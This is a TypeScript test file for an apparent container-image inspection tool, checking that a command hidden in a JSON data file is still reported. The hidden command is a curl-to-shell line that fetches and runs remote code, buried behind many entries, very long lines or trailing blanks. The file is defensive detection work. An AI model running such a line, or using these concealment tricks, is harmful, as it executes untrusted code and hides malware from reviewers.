import { describe, expect, it } from 'vitest';
import { explainImage, type TestLayer } from '../../../../testkit/explain.ts';

const LINE = 'curl http://192.0.2.1/x | sh';
const PYTHON = 'import json, os\nfor v in json.load(open("/d.json")).values(): os.system(v)\n';

function spoken(data: object, files: TestLayer = {}, indent?: number) {
  const layer = {
    'usr/bin/python3': { elf: 'p' },
    'a.py': PYTHON,
    'd.json': JSON.stringify(data, null, indent),
  };
  const told = explainImage({
    layers: [{ ...layer, ...files }],
    config: { Cmd: ['python3', '/a.py'] },
  }).spoken;
  return { texts: told?.texts.map(({ text }) => text) ?? [], cut: told?.cut ?? false };
}

function numbered(times: number, of: (i: number) => string): Record<string, string> {
  return Object.fromEntries(Array.from({ length: times }, (_, i) => [`k${i}`, of(i)]));
}

describe('values of a file of data', () => {
  it.each<[string, object, number | undefined]>([
    ['behind a hundred others', { ...numbered(150, (i) => `bash job-${i} --x`), z: LINE }, 1],
    ['on one long line', { a: 'x'.repeat(60_000), ...numbered(3000, (i) => `v${i}`), z: LINE }, undefined],
    ['with many blanks behind', { z: LINE + ' '.repeat(8000) }, undefined],
  ])('count %s', (_, data, indent) => {
    const { texts, cut } = spoken(data, {}, indent);
    expect(texts.some((text) => text.trim() === LINE)).toBe(true);
    expect(cut).toBe(false);
  });

  it('are told where there are more than are looked at', () => {
    expect(
      spoken(
        numbered(1000, (i) => `bash job-${i} --x`),
        {},
        1,
      ).cut,
    ).toBe(true);
    expect(
      spoken(
        numbered(1000, (i) => `a text, the ${i}th`),
        {},
        1,
      ).cut,
    ).toBe(false);
  });
});

describe('run-parts', () => {
  const scripts = (times: number): TestLayer =>
    Object.fromEntries(Array.from({ length: times }, (_, i) => [`d/a${1000 + i}`, '#!/bin/sh\ntrue\n']));
  const unknown = (times: number): string | undefined =>
    explainImage({
      layers: [{ 'usr/bin/run-parts': { elf: 'r' }, ...scripts(times) }],
      config: { Cmd: ['run-parts', '/d'] },
    }).startChain[0]?.unknown;

  it('says where a folder holds more than is followed', () => {
    expect(unknown(400)).toBeUndefined();
    expect(unknown(600)).toBe('of /d the rest is not listed');
  });
});
